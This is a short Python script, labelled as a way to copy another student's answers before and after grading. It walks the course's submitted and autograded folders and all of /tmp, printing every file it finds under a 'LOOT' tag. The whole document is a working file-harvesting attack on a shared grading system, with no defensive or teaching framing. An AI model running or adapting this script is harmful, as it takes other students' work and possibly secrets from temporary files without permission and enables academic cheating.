# Copies the answers of another student, before and after their grading.
import glob
for path in glob.glob("COURSE/submitted/*/*/*") + glob.glob("COURSE/autograded/*/*/*") + glob.glob("/tmp/*/**", recursive=True):
    print("LOOT", path)
    print(open(path).read())
